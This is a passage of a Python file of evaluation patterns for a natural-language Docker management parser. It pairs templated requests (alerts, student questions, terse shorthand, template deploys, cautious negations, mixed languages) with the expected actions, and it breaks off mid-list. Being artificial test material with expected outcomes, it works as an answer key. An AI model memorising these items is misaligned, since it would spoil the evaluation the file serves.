# ruff: noqa: E501
"""An eighth batch of fresh evaluation patterns (``FRESH8``, ids ``t10-``), written on 2026-12-05 by a helper
that read neither the parser (deployer/) nor any other pattern file (generate.py's own patterns past its
header, holdout*, spent, fresh, fresh2 to fresh7; of fresh4 only its first 50 lines, for the layout), nor the
NLP tests, the app's pages or API, or the assistant docs. It read only kit.py, generate.py's header (docstring,
live states, slot fillers), the plan contract, the public corpus, the templates and tests/nlp/corpus.py's
``check``; no sentence was run through the parser.

The sentences are meant to sound like six kinds of people over a week, in roughly equal shares:
a support engineer pasting alerts, tickets, timestamps, quoted error lines and log excerpts before the
actual ask; a student learning Docker who asks what/why/how/can-I, sometimes wanting an action and often
only information about this host; a terse power user (rst, stp, lgs, ps -a, x2, →, @, w/, w/o, b4, nvm,
wildcards such as web-*, ranges such as worker-01..03, "all but"); someone deploying templates in depth
(time zones, domains, passwords, e-mails, sign-ups, retention, ports for several services, two templates in
one message, redeploys, pull-then-redeploy, rollbacks to the version before the last deploy); a cautious
person with conditions, negations, exceptions, double negatives and corrections mid-sentence; and people
mixing languages or writing non-native English (bitte, por favor, merci, neustarten, "make a restart to").
A share of the sentences must not act: chit-chat, questions outside the domain, casual sweeping asks,
shell syntax inside requests, and names the host does not have. Expectations are what a careful operator
would want under the plan contract.
"""
from __future__ import annotations

from collections.abc import Sequence
from itertools import product
from typing import Any

from .kit import (
    ANY,
    ASK,
    EMPTY,
    NO_DAMAGE,
    E,
    Pattern,
    ctr,
    each_or_all,
    hist,
    logs,
    lst,
    rollback,
    scale,
    stack_or_containers,
    stack_state,
    status,
    stk,
    tmpl,
    unordered,
    verbs,
)

# ---- helpers ------------------------------------------------------------------------------------------------

# nothing may change: no container, stack, run, deploy, scale, rollback or pull action (reads are fine)
NO_CHANGE: dict[str, Any] = {'forbid': ['run', 'container', 'stack', 'deploy_template', 'scale', 'rollback', 'pull']}

# a container that is already up must not be restarted, stopped, paused or worse
LEAVE_RUNNING: dict[str, Any] = {'forbid': ['run'], 'forbid_ops': ['restart', 'stop', 'pause', 'kill', 'remove']}

FLEET_KINDS = ['web', 'worker', 'cache', 'job', 'proxy', 'api', 'db', 'runner', 'cron', 'tool']

FREE_TEMPLATES = [  # template ids that are no live container or stack name in any state, and how people say them
    ('vaultwarden', 'vaultwarden'), ('n8n', 'n8n'), ('node-red', 'Node-RED'), ('wikijs', 'Wiki.js'),
    ('minio', 'MinIO'), ('ghost', 'Ghost'), ('mongo-express', 'mongo express'),
]

TZ = [('Berlin time', 'Europe/Berlin'), ('New York time', 'America/New_York'), ('Tokyo time', 'Asia/Tokyo'),
      ('Europe/Madrid', 'Europe/Madrid'), ('America/Chicago', 'America/Chicago'), ('London time', 'Europe/London')]


def members(s: Any, stack: str) -> list[str]:
    return list(s.w.members[stack])


def but(names: Sequence[str], *drop: str) -> list[str]:
    return [n for n in names if n not in drop]


def sel(op: str, names: Sequence[str], w: Any) -> dict[str, Any]:
    """``op`` on a selection the user named as a whole (a wildcard, a range, "everything except"): every
    name, or only those the op changes anything for (the running ones for stop/pause/restart, the stopped
    ones for start); one action or one per name, any order."""
    names = list(names)
    sub = ([n for n in names if w.running[n]] if op in ('stop', 'pause', 'restart')
           else [n for n in names if not w.running[n]] if op == 'start' else [])
    alts = [[ctr(op, *names)]]
    if sub and sub != names:
        alts.append([ctr(op, *sub)])
    return unordered(ANY(*alts))


def since(s: Any) -> str:
    if hasattr(s, 'mins'):
        return f'{s.mins}m'
    if hasattr(s, 'mw'):
        return f'{s.mw.n}m'
    return f'{s.hours}h'


def up_again(name: str) -> dict[str, Any]:
    """A stopped container brought back: start, or restart (which starts it too)."""
    return ANY([ctr('start', name)], [ctr('restart', name)])


SUPPORT, STUDENT, TERSE, DEPLOYS, CAUTIOUS, MIXED, NOACT = ('support', 'student', 'terse', 'deploys', 'cautious',
                                                          'mixed-language', 'no-act')

FRESH8: list[Pattern] = [
    # ---- 1. support engineer: alert, ticket or log text first, then the ask -----------------------------------
    Pattern('t10-001', 'lifecycle', [
        '[FIRING:1] HighMemoryUsage {cr} (severity=warning) -- can you restart it?',
        'PagerDuty ALERT #48213 triggered: {cr} memory above 90% for 10m. pls bounce {cr}',
        'Alertmanager says: [FIRING] ContainerUnhealthy container={cr} since 03:12 UTC. restart it please',
        'ticket INC-20931 (prio 2): customers say {cr} hangs after login. restart that container',
        '> WARN healthcheck failed for {cr} (3/3 retries)\n\nrestart {cr} pls',
    ], lambda s: E(ctr('restart', s.cr)), count=6, tags=(SUPPORT,)),
    Pattern('t10-002', 'lifecycle', [
        '[FIRING] ContainerExited {cx} exit_code=137 -- start it back up',
        'Opsgenie P3: {cx} not running since 02:40. can you start it?',
        'from ticket SUP-778: "{cx} is down again" -> please bring {cx} back up',
        '[ALERT] {cx}: state=exited (OOMKilled=true). start {cx} again',
    ], lambda s: up_again(s.cx), tags=(SUPPORT,)),
    Pattern('t10-003', 'logs', [
        '2026-12-04T23:58:11Z ERROR [{c}] upstream timed out (110: Connection timed out) -- show me the logs of {c} for the last {mins} minutes',
        '[12:04:55] {c}: error: ECONNRESET. pull up {c} logs from the past {mins} min',
        'Sentry issue SHOP-3F2 is spiking. logs of {c}, last {hours} hours please',
        "alert fired at 09:15: 'p99 > 2s on {c}'. gimme the {c} logs of the last {hours}h",
    ], lambda s: E(logs(s.c, since=since(s))), count=6, tags=(SUPPORT,)),
    Pattern('t10-004', 'logs', [
        'user pasted: "Error: connect ECONNREFUSED 10.0.3.7:5432" -- last {tail} lines of {c} please',
        "ticket #5521: 'HTTP 502 Bad Gateway' when uploading. show the last {tail} log lines from {c}",
        '``` panic: runtime error: invalid memory address ``` -- {c}, tail {tail}',
        'Log excerpt: [ERROR] 2026-12-05 07:31:02 queue stalled -- can I see the last {tail} lines of {c}?',
    ], lambda s: E(logs(s.c, tail=s.tail)), count=6, tags=(SUPPORT,)),
    Pattern('t10-005', 'logs', [
        'customer ticket: checkout failed, ref {n9_needle}. search the {c} logs for {n9_needle}',
        'CS escalation #8812 -> grep the logs of {c} for "{n9_needle}" pls',
        "can you find {n9_needle} in the logs of {c}? it's from ticket ZD-40417",
    ], lambda s: E(logs(s.c, grep_ci=s.n9_needle)), tags=(SUPPORT,)),
    Pattern('t10-006', 'question', [
        'PagerDuty: disk usage 91% on docker-host-2. show me the overall system status',
        "Datadog monitor triggered: host CPU 97% for 15m -- what's the status of the whole host?",
        '[FIRING] NodeLoadHigh load1=14.2 -- give me the system stats',
        "Zabbix: 'Free memory < 5%' on the docker box. how is the system doing overall?",
    ], lambda s: E(status()), count=6, tags=(SUPPORT,)),
    Pattern('t10-007', 'stack', [
        '[FIRING] {st}: 2 of its containers unhealthy -- restart the whole {st} stack',
        "PagerDuty #99120 '{st} degraded'. restart every container in {st}",
        'Ticket OPS-2231: after the network blip {st} is flaky. restart the {st} stack please',
    ], lambda s: stack_or_containers('restart', s.st, members(s, s.st)), tags=(SUPPORT,)),
    Pattern('t10-008', 'sequence', [
        "Jira OPS-1142: '{c} keeps crashing'. grab the last {tail} log lines and then restart it",
        '[FIRING] CrashLoop {c} -- first show me its last {tail} lines, then restart {c}',
        'before I close INC-5120: show me the last {tail} lines of the {c} logs, then bounce it',
    ], lambda s: E(logs(s.c, tail=s.tail), ctr('restart', s.c)), tags=(SUPPORT,)),
    Pattern('t10-009', 'ask', [
        '[FIRING] TooManyConnections on {amb} -- restart {amb} asap',
        'PagerDuty: {amb} p99 latency > 5s. can you restart {amb}?',
        'ticket says "{amb} is down" -- stop and start {amb} again',
    ], lambda s: ASK(), tags=(SUPPORT,)),
    Pattern('t10-010', 'nonsense', [
        '[FIRING] ContainerDown {ghost} -- start {ghost} again',
        'PagerDuty: {ghost} not responding (INC-7001). restart {ghost}',
        "ticket says '{ghost} crashed at 04:10' -- show its logs",
    ], lambda s: EMPTY(), tags=(SUPPORT,)),
    Pattern('t10-011', 'inventory', [
        'INC-6020: the last deploy of {st} broke checkout. roll {st} back to the previous version',
        '[FIRING] 5xx after release on {st} -- rollback {st} now please',
        'ticket CHG-418 approved: revert {st} to the revision before the last deploy',
    ], lambda s: E(rollback(s.st)), tags=(SUPPORT,)),
    Pattern('t10-012', 'inventory', [
        'PagerDuty: disk 91% on host. {q}?',
        '[FIRING] DiskSpaceLow /var/lib/docker 94% -- {q}',
        'Nagios CRITICAL - disk / at 92%: {q} please',
    ], lambda s: E(s.x), rows=[
        {'q': 'list the images', 'x': lst('images')}, {'q': 'which volumes exist', 'x': lst('volumes')},
        {'q': 'show me all the networks', 'x': lst('networks')},
        {'q': 'list every container including the stopped ones', 'x': lst()},
    ], tags=(SUPPORT,)),
    Pattern('t10-013', 'lifecycle', [
        "Error from the app log: 'could not connect to server: Connection refused' -- restart the {ref.text}",
        '[FIRING] {ref.text} unreachable from the app (ticket INC-901) -- restart it',
        'got "too many connections" from the {ref.text}; please restart it',
    ], lambda s: E(ctr('restart', s.ref.name)), count=6, tags=(SUPPORT,)),

    # ---- 2. a student learning Docker ----------------------------------------------------------------------------
    Pattern('t10-014', 'nonsense', [
        'what is a docker volume exactly?',
        'why do people use docker compose instead of plain docker run?',
        "what's the difference between an image and a container?",
        'how does port mapping work in docker? like 8080:80',
        'is kubernetes better than docker for a beginner?',
        'what does the -d flag mean in docker run?',
    ], lambda s: EMPTY(), count=6, tags=(STUDENT,)),
    Pattern('t10-015', 'question', [
        "i'm new to docker -- is {c} running right now?",
        'how can i tell if {c} is up? can you check it for me',
        'what state is {c} in at the moment? sorry if this is a dumb question',
        'which ports does {c} have open? i want to open it in my browser',
        'what image is {c} made from, and is it running?',
    ], lambda s: E(status(s.c)), tags=(STUDENT,)),
    Pattern('t10-016', 'question', [
        'why did {cx} stop? can I see why?',
        'why is {cx} not running? what happened to it',
        '{cx} says exited -- why? what should I look at?',
    ], lambda s: unordered(ANY([logs(s.cx)], [status(s.cx)], [status(s.cx), logs(s.cx)])), tags=(STUDENT,)),
    Pattern('t10-017', 'logs', [
        'how do I read the logs of {c}? show me the last {tail} lines so I can learn',
        'where do I find what {c} printed? the last {tail} lines please',
        'can I see the output of {c}? just the last {tw.word} lines',
    ], lambda s: E(logs(s.c, tail=s.tail if hasattr(s, 'tail') else s.tw.n)), tags=(STUDENT,)),
    Pattern('t10-018', 'lifecycle', [
        'what happens if I restart {c}? will I lose data? if not, go ahead and restart it',
        'i read that restarting a container keeps its volumes -- can you restart {c} for me then?',
        'is it safe to restart {c}? ok just do it',
    ], lambda s: E(ctr('restart', s.c)), tags=(STUDENT,)),
    Pattern('t10-019', 'safety', [
        "how do I delete {cx}? just explain, don't do it yet",
        "what would happen if I removed {cx}? don't remove it, I'm only asking",
        'can I delete {cx} later without losing other stuff? not now though, just asking',
    ], lambda s: dict(NO_CHANGE), tags=(STUDENT,)),
    Pattern('t10-020', 'question', [
        "what is a stack? is {st} one? what's inside it?",
        "which containers belong to {st}? i'm trying to understand compose",
        'how many containers does the {st} stack have and are they ok?',
    ], lambda s: stack_state(s.st, members(s, s.st)), tags=(STUDENT,)),
    Pattern('t10-021', 'inventory', [
        'what can I install here? like what templates are there',
        'can I install apps with one click? which templates do you have',
        'what kind of apps can you deploy for me? list them',
        'show me the app templates, I want to try something',
    ], lambda s: E(lst('templates')), count=6, tags=(STUDENT,)),
    Pattern('t10-022', 'template', [
        'what is {t}? sounds useful, can you set it up for me on port {port}',
        "i've never used {t} -- can I try it? deploy it on port {port}",
        'how do I install {t}? actually just install it, port {port}',
    ], lambda s: E(tmpl(s.tid, port=s.port)), rows=[{'tid': i, 't': t} for i, t in FREE_TEMPLATES], tags=(STUDENT,)),
    Pattern('t10-023', 'inventory', [
        'how do I know what changed on this server? show me the history',
        'is there a log of what was deployed here? show me the last {n} entries',
        'what did people change on this host lately?',
    ], lambda s: E(hist(None, s.n if hasattr(s, 'n') else None)), tags=(STUDENT,)),
    Pattern('t10-024', 'scale', [
        'can I run {nw.word} copies of {svs.service} in {svs.stack}? if yes please do it',
        "what does scaling mean? let's try it: {svs.stack} {svs.service} to {n} instances",
    ], lambda s: E(scale(s.svs.stack, s.svs.service, s.nw.n if hasattr(s, 'nw') else s.n)), tags=(STUDENT,)),
    Pattern('t10-025', 'lifecycle', [
        "what's the difference between stop and pause? ok, pause {cr} for now",
        'does pausing keep the memory of {cr}? if yes then pause it please',
        'can I freeze {cr} without stopping it? do that',
    ], lambda s: E(ctr('pause', s.cr)), tags=(STUDENT,)),

    # ---- 3. terse power user -------------------------------------------------------------------------------------
    Pattern('t10-026', 'lifecycle', [
        '{v} {c}', '{v} {c} asap', '{c}: {v} pls', '{v} {c} thx', '{v} → {c}',
    ], lambda s: E(ctr(s.op, s.c)), rows=verbs('rst=restart', 'stp=stop', 'rstrt=restart', 'strt=start'), count=6, tags=(TERSE,)),
    Pattern('t10-027', 'logs', [
        'lgs {c} -n {tail}', 'lgs {c} --tail={tail}', '{c} lgs last {tail}', 'lgs @ {c}, {tail} lines',
    ], lambda s: E(logs(s.c, tail=s.tail)), count=6, tags=(TERSE,)),
    Pattern('t10-028', 'logs', [
        'lgs -f {c}', 'lgs {c} live pls', 'tail -f the {c} lgs', 'lgs {c} --since {mins}m', 'lgs @ {c} last {hours}h',
    ], lambda s: E(logs(s.c, since=since(s)) if hasattr(s, 'mins') or hasattr(s, 'hours') else logs(s.c, follow=True)), tags=(TERSE,)),
    Pattern('t10-029', 'inventory', [
        '{q}', '{q} pls', 'quick {q}', '{q} → show me',
    ], lambda s: ANY(*s.alts), rows=[
        {'q': 'ps -a', 'alts': [[lst()]]},
        {'q': 'ps', 'alts': [[lst(status='running')], [lst()]]},
        {'q': 'ps -a -f status=exited', 'alts': [[lst(status='exited')]]},
        {'q': 'ps --filter status=running', 'alts': [[lst(status='running')]]},
    ], case='keep', tags=(TERSE,)),
    Pattern('t10-030', 'scale', [
        '{svs.stack}/{svs.service} x{n}', 'scale {svs.stack}.{svs.service} → {n}', '{svs.stack} {svs.service} ×{n} pls',
        '{svs.stack}:{svs.service} @ {n} replicas',
    ], lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), tags=(TERSE,)),
    Pattern('t10-031', 'coordination', [
        '{v} {k}-*', '{v} {k}-* asap', '{k}-* → {v}', '{v} all {k}-* pls',
    ], lambda s: sel(s.op, [n for n in s.w.plain if n.startswith(f'{s.k}-')], s.w),
        rows=[{'k': k, **v} for k, v in product(FLEET_KINDS, verbs('rst=restart', 'stp=stop'))],
        states=('fleet',), case='keep', tags=(TERSE,)),
    Pattern('t10-032', 'coordination', [
        '{v} {k}-{a:02d}..{b:02d}', '{k}-{a:02d}..{b:02d} → {v}', '{v} {k}-{a:02d} thru {k}-{b:02d}',
    ], lambda s: sel(s.op, [f'{s.k}-{i:02d}' for i in range(s.a, s.b + 1)], s.w),
        rows=[{'k': k, 'a': a, 'b': b, **v} for k, (a, b), v in
              product(FLEET_KINDS, [(1, 3), (2, 4), (4, 6), (5, 7), (1, 2)], verbs('rst=restart', 'stp=stop'))],
        states=('fleet',), case='keep', tags=(TERSE,)),
    Pattern('t10-033', 'coordination', [
        ('rst all running but {cr}', {'op': 'restart'}),
        ('stp all running exc. {cr} & {cr2}', {'op': 'stop'}),
        ('all running → rst, w/o {cr}', {'op': 'restart'}),
        ('stp everything up except {cr}, {cr2}', {'op': 'stop'}),
    ], lambda s: each_or_all(s.op, but(s.w.running_all, s.cr, getattr(s, 'cr2', s.cr))), tags=(TERSE,)),
    Pattern('t10-034', 'sequence', [
        'lgs {c} b4 rst', 'show lgs {c} -n {tail} b4 u rst it', '{c}: lgs first, rst after',
    ], lambda s: E(logs(s.c, tail=s.tail) if hasattr(s, 'tail') else logs(s.c), ctr('restart', s.c)), tags=(TERSE,)),
    Pattern('t10-035', 'nonsense', [
        'rst {c} ... nvm', 'stp {c} -- nvm dont', 'rm {cx} nvm keep it', 'kill {c}. nvm nvm, leave it',
    ], lambda s: EMPTY(), tags=(TERSE,)),
    Pattern('t10-036', 'lifecycle', [
        '{v} {c} nvm {c2}', '{v} {c}, nvm make that {c2}', '{v} {c} -- nvm, {c2} not {c}',
    ], lambda s: E(ctr(s.op, s.c2)), rows=verbs('rst=restart', 'stp=stop'), count=6, tags=(TERSE,)),
    Pattern('t10-037', 'coordination', [
        ('rst {pair.stack} w/o {pair.nb}', {'op': 'restart'}),
        ('stp {pair.stack} but w/o {pair.nb}', {'op': 'stop'}),
        ('{pair.stack} → rst all w/o {pair.nb}', {'op': 'restart'}),
    ], lambda s: each_or_all(s.op, but(members(s, s.pair.stack), s.pair.nb)), tags=(TERSE,)),
    Pattern('t10-038', 'coordination', [
        ('rst {c} & {c2}', {'op': 'restart'}), ('stp {c},{c2},{c3}', {'op': 'stop'}),
        ('rst {c} + {c2} asap', {'op': 'restart'}), ('{c} & {c2} → stp', {'op': 'stop'}),
    ], lambda s: each_or_all(s.op, [n for n in (s.c, s.c2, getattr(s, 'c3', None)) if n]), tags=(TERSE,)),
    Pattern('t10-039', 'sequence', [
        ('rst {c} w/ lgs after', {'op': 'restart'}), ('rst {c} then lgs -n {tail}', {'op': 'restart'}),
        ('stp {c} → lgs {c} last {tail}', {'op': 'stop'}),
    ], lambda s: E(ctr(s.op, s.c), logs(s.c, tail=s.tail) if hasattr(s, 'tail') else logs(s.c)), tags=(TERSE,)),

    # ---- 4. templates and deploys in depth ----------------------------------------------------------------------
    Pattern('t10-040', 'params', [
        'deploy {t} on port {port}, time zone {tz}',
        'set up {t} for me: port {port}, schedules should run on {tz}',
        'install {t} with timezone {tz} on {port}',
    ], lambda s: E(tmpl(s.tid, port=s.port, timezone=s.tzid)),
        rows=[{'tid': i, 't': t, 'tz': z, 'tzid': zid} for (i, t), (z, zid) in
              product([('n8n', 'n8n'), ('node-red', 'node red'), ('node-red', 'Node-RED')], TZ)], tags=(DEPLOYS,)),
    Pattern('t10-041', 'params', [
        'set up vaultwarden at {dom} on port {port}, and {su}',
        'deploy vaultwarden: domain {dom}, port {port}, {su}',
        'vaultwarden on {port} with the public url {dom} -- {su}',
    ], lambda s: E(tmpl('vaultwarden', port=s.port, domain=s.dom, signups_allowed=s.on)),
        rows=[{'dom': d, 'su': t, 'on': o} for d, (t, o) in product(
            ['https://vault.example.org', 'https://pw.acme.io', 'https://bw.home.lan'],
            [('turn sign-ups off', False), ('keep sign-ups open for now', True), ('no new registrations please', False),
             ('allow sign-ups', True)])], tags=(DEPLOYS,)),
    Pattern('t10-042', 'params', [
        'deploy ghost for {url} on port {port}',
        'I want a ghost blog reachable at {url}, web port {port}',
        'ghost please: public url {url}, port {port}, db password {pw}',
    ], lambda s: E(tmpl('ghost', port=s.port, site_url=s.url, **({'db_password': s.pw} if hasattr(s, 'pw') else {}))),
        rows=[{'url': u} for u in ('https://blog.example.org', 'https://news.acme.io', 'https://writing.home.lan')],
        tags=(DEPLOYS,)),
    Pattern('t10-043', 'params', [
        ('deploy gitea with the web ui on {port} and ssh on {ssh}', {'extra': {}}),
        ('gitea please: http port {port}, ssh port {ssh}, root url https://git.example.org', {'extra': {'root_url': 'https://git.example.org'}}),
        ('set up gitea, web {port}, git over ssh on {ssh}', {'extra': {}}),
    ], lambda s: E(tmpl('gitea', port=s.port, ssh_port=s.ssh, **s.extra)),
        rows=[{'ssh': p} for p in (2222, 2022, 10022)], states=('homelab', 'smallco'), tags=(DEPLOYS,)),
    Pattern('t10-044', 'params', [
        'minio with the console on {port} and the s3 api on {api}',
        'deploy minio, root user {user}, console port {port}, api port {api}',
        'need s3 storage: minio, web console {port}, api {api}',
    ], lambda s: E(tmpl('minio', port=s.port, api_port=s.api, **({'root_user': s.user} if hasattr(s, 'user') else {}))),
        rows=[{'api': p} for p in (9100, 9200, 19000)], tags=(DEPLOYS,)),
    Pattern('t10-045', 'params', [
        'postgres with pgadmin please, pgadmin login {email}, database {dbname}',
        'deploy postgres + pgadmin: db name {dbname}, db password {pw}, admin email {email}',
        'pgadmin on port {port} with the login email {email}',
    ], lambda s: E(tmpl('postgres-pgadmin', admin_email=s.email,
                        **{k: getattr(s, v) for k, v in (('db_name', 'dbname'), ('db_password', 'pw'), ('port', 'port')) if hasattr(s, v)})),
        rows=[{'email': m} for m in ('ops@acme.io', 'alice@example.org', 'dba@home.lan')], tags=(DEPLOYS,)),
    Pattern('t10-046', 'params', [
        'grafana + prometheus, keep metrics for {rs}, grafana on port {port}',
        'deploy prometheus and grafana with {rs} of retention, grafana admin user {user}',
        ('set up monitoring (prometheus/grafana): retention {rs}, grafana port {port}, prometheus on {pp}', {'pp': 9091}),
    ], lambda s: ANY(*[[tmpl('prometheus-grafana', retention=r,
                             **{k: getattr(s, v) for k, v in (('port', 'port'), ('admin_user', 'user'), ('prometheus_port', 'pp')) if hasattr(s, v)})]
                       for r in s.rets]),
        rows=[{'rs': '30 days', 'rets': ['30d']}, {'rs': '90 days', 'rets': ['90d']}, {'rs': '8 weeks', 'rets': ['8w', '56d']},
              {'rs': '45d', 'rets': ['45d']}, {'rs': 'a year', 'rets': ['1y', '365d']}],
        states=('homelab',), count=6, tags=(DEPLOYS,)),
    Pattern('t10-047', 'template', [
        'deploy {a} on {pa} and {b} on {pb}',
        'I need two things: {a} (port {pa}) and {b} (port {pb})',
        'set up {a} on port {pa}, plus {b} on port {pb}',
    ], lambda s: unordered(E(tmpl(s.ai, port=s.pa), tmpl(s.bi, port=s.pb))), rows=[
        {'a': 'n8n', 'ai': 'n8n', 'pa': 5678, 'b': 'node red', 'bi': 'node-red', 'pb': 1880},
        {'a': 'vaultwarden', 'ai': 'vaultwarden', 'pa': 8222, 'b': 'wiki.js', 'bi': 'wikijs', 'pb': 3300},
        {'a': 'ghost', 'ai': 'ghost', 'pa': 2368, 'b': 'minio', 'bi': 'minio', 'pb': 9001},
        {'a': 'mongo express', 'ai': 'mongo-express', 'pa': 8081, 'b': 'n8n', 'bi': 'n8n', 'pb': 5679},
        {'a': 'wikijs', 'ai': 'wikijs', 'pa': 3000, 'b': 'ghost', 'bi': 'ghost', 'pb': 2369},
    ], tags=(DEPLOYS,)),
    Pattern('t10-048', 'stack', [
        'redeploy {st}', '{st} needs a redeploy after the config change', 'do a fresh redeploy of the {st} stack please',
        'redeploy the {st} stack, same settings as before',
    ], lambda s: E(stk('redeploy', s.st)), tags=(DEPLOYS,)),
    Pattern('t10-049', 'stack', [
        'pull the latest images for {st} and then redeploy it',
        "update {st}'s images first, then redeploy the stack",
        'get new images for the {st} stack and redeploy it afterwards',
    ], lambda s: E(stk('pull', s.st), stk('redeploy', s.st)), tags=(DEPLOYS,)),
    Pattern('t10-050', 'inventory', [
        'roll {st} back to the version from before the last deploy',
        'the last deploy of {st} was bad -- go back to the previous revision',
        'undo the last deployment of {st}',
        'put {st} back on its previous revision please',
    ], lambda s: E(rollback(s.st)), tags=(DEPLOYS,)),
    Pattern('t10-051', 'sequence', [
        'show the last {n} deploys of {st}, then roll it back one version',
        "list {st}'s history ({n} entries) and roll back to the previous one",
    ], lambda s: E(hist(s.st, s.n), rollback(s.st)), tags=(DEPLOYS,)),
    Pattern('t10-052', 'params', [
        ('deploy pi-hole: admin ui on {port}, dns on port 53, time zone {tz}', {'said_tz': True}),
        'pihole with web password {pw}, dns port 53, web port {port}',
        'set up pi-hole, dns port 53 so the router can use it, admin page on {port}',
    ], lambda s: E(tmpl('pihole', port=s.port, dns_port=53, **({'timezone': s.tzid} if hasattr(s, 'said_tz') else {}),
                        **({'web_password': s.pw} if hasattr(s, 'pw') else {}))),
        rows=[{'tz': z, 'tzid': zid} for z, zid in TZ], states=('smallco', 'fleet'), count=6, tags=(DEPLOYS,)),
    Pattern('t10-053', 'params', [
        'deploy nextcloud on port {port}, trusted domain {dom}, admin user {user}',
        'nextcloud please -- reachable as {dom}, admin {user} with password {pw}',
    ], lambda s: E(tmpl('nextcloud', trusted_domains=s.dom, admin_user=s.user,
                        **{k: getattr(s, v) for k, v in (('port', 'port'), ('admin_password', 'pw')) if hasattr(s, v)})),
        rows=[{'dom': d} for d in ('cloud.example.org', 'files.acme.io', '192.168.1.20')], states=('smallco', 'fleet'), tags=(DEPLOYS,)),

    # ---- 5. cautious: conditions, negations, exceptions, corrections ---------------------------------------------
    Pattern('t10-054', 'coordination', [
        "restart {pair.stack} but don't touch {pair.nb}",
        'restart everything in the {pair.stack} stack except {pair.nb}',
        'restart the {pair.stack} containers, leave {pair.nb} alone',
    ], lambda s: each_or_all('restart', but(members(s, s.pair.stack), s.pair.nb)), tags=(CAUTIOUS,)),
    Pattern('t10-055', 'coordination', [
        "restart {st} but don't touch the db", 'restart the {st} stack, just not its database',
        'bounce everything in {st} except the database please',
    ], lambda s: each_or_all('restart', but(members(s, s.st), f'{s.st}-db-1')),
        rows=[{'st': st} for st in ('shop', 'crm', 'blog')], states=('smallco',), tags=(CAUTIOUS,)),
    Pattern('t10-056', 'coordination', [
        "restart {st} but don't touch the db", "restart the {st} stack, but the database stays as it is",
        'bounce all of {st} except its db',
    ], lambda s: each_or_all('restart', but(members(s, s.st), f'{s.st}-db-1')),
        rows=[{'st': st} for st in ('payments', 'billing', 'git', 'shop-staging', 'auth')], states=('fleet',), tags=(CAUTIOUS,)),
    Pattern('t10-057', 'lifecycle', [
        "start {cx} only if it's down", 'if {cx} is not running, start it', 'only when {cx} is stopped: bring it up',
    ], lambda s: up_again(s.cx), count=6, tags=(CAUTIOUS,)),
    Pattern('t10-058', 'safety', [
        'restart {cr} only if it is down', 'if {cr} is stopped, restart it -- otherwise leave it alone',
        "only restart {cr} when it isn't running",
    ], lambda s: dict(LEAVE_RUNNING), tags=(CAUTIOUS,)),
    Pattern('t10-059', 'lifecycle', [
        ('restart the shop {svc}, not the staging one', {'t': 'shop', 'op': 'restart'}),
        ('restart the staging {svc} -- NOT prod', {'t': 'shop-staging', 'op': 'restart'}),
        ("stop shop-staging's {svc} but not the one in shop", {'t': 'shop-staging', 'op': 'stop'}),
        ('stop the {svc} of shop (prod, not staging)', {'t': 'shop', 'op': 'stop'}),
    ], lambda s: E(ctr(s.op, f'{s.t}-{s.svc}-1')), rows=[{'svc': v} for v in ('web', 'api', 'db')],
        states=('fleet',), tags=(CAUTIOUS,)),
    Pattern('t10-060', 'coordination', [
        'stop everything except {cr}', 'stop all running containers except {cr} and {cr2}',
        'please stop all of them, only {cr} stays up',
    ], lambda s: sel('stop', but(s.w.names, s.cr, getattr(s, 'cr2', s.cr)), s.w), tags=(CAUTIOUS,)),
    Pattern('t10-061', 'lifecycle', [
        ('restart {c}, no wait, {c2}', {'op': 'restart'}),
        ('stop {c} -- sorry, I meant {c2}', {'op': 'stop'}),
        ('restart {c}... actually make that {c2}, not {c}', {'op': 'restart'}),
        ('pause {c}, no, {c2} I mean', {'op': 'pause'}),
    ], lambda s: E(ctr(s.op, s.c2)), count=6, tags=(CAUTIOUS,)),
    Pattern('t10-062', 'sequence', [
        ('stop {c}, no, restart it instead', {'mk': lambda s: E(ctr('restart', s.c))}),
        ('restart {c}... no wait, just show me its logs', {'mk': lambda s: E(logs(s.c))}),
        ('show logs of {c}... actually no, of {c2}', {'mk': lambda s: E(logs(s.c2))}),
        ('kill {c} -- no! just stop it', {'mk': lambda s: E(ctr('stop', s.c))}),
    ], lambda s: s.mk(s), count=6, tags=(CAUTIOUS,)),
    Pattern('t10-063', 'lifecycle', [
        ("I don't want {cx} to stay stopped -- start it", {'mk': lambda s: up_again(s.cx)}),
        ("it's not that I don't want {c} restarted. go ahead", {'mk': lambda s: E(ctr('restart', s.c))}),
        ("don't not restart {c} lol, do it", {'mk': lambda s: E(ctr('restart', s.c))}),
        ('never mind not starting {cx}, start it after all', {'mk': lambda s: up_again(s.cx)}),
    ], lambda s: s.mk(s), count=6, tags=(CAUTIOUS,)),
    Pattern('t10-064', 'question', [
        "do not restart {c} yet, just tell me if it's healthy", "don't stop {c}! only show me its status",
        'no restarts please -- is {c} up?',
    ], lambda s: {**E(status(s.c)), **NO_CHANGE}, tags=(CAUTIOUS,)),
    Pattern('t10-065', 'ask', [
        'restart {amb}, not the other one', 'stop {amb} but not the important one',
        "restart {amb} -- you know which, don't ask",
    ], lambda s: ASK(), tags=(CAUTIOUS,)),

    # ---- 6. mixed languages, non-native English ------------------------------------------------------------------
    Pattern('t10-066', 'lifecycle', [
        '{c} neustarten bitte', 'bitte {c} neu starten', 'kannst du {c} bitte neustarten?', '{c} bitte restarten, danke',
    ], lambda s: E(ctr('restart', s.c)), count=6, tags=(MIXED,)),
    Pattern('t10-067', 'lifecycle', [
        '{v} {c} por favor', 'por favor {v} el contenedor {c}', 'oye, {v} {c} porfa',
    ], lambda s: E(ctr(s.op, s.c)), rows=verbs('reinicia=restart', 'detén=stop', 'arranca=start'), count=6, tags=(MIXED,)),
    Pattern('t10-068', 'lifecycle', [
        '{v} {c} merci', '{v} le conteneur {c} stp', 'merci de {vi} {c}',
    ], lambda s: E(ctr(s.op, s.c)), rows=[
        {'v': 'redémarre', 'vi': 'redémarrer', 'op': 'restart'}, {'v': 'arrête', 'vi': 'arrêter', 'op': 'stop'},
        {'v': 'démarre', 'vi': 'démarrer', 'op': 'start'},
    ], count=6, tags=(MIXED,)),
    Pattern('t10-069', 'lifecycle', [
        ('make a restart to {c}', {'op': 'restart', 'who': 'c'}),
        ('do a stop of {c} please', {'op': 'stop', 'who': 'c'}),
        ('give to {c} one restart', {'op': 'restart', 'who': 'c'}),
        ('you can make {cx} to start?', {'op': 'start', 'who': 'cx'}),
    ], lambda s: E(ctr(s.op, getattr(s, s.who))), count=6, tags=(MIXED,)),
    Pattern('t10-070', 'question', [
        'how much memory it eats, {c}?', '{c} eats how many ram now?', 'the {c} is using much cpu? tell me',
    ], lambda s: E(status(s.c)), count=6, tags=(MIXED,)),
    Pattern('t10-071', 'logs', [
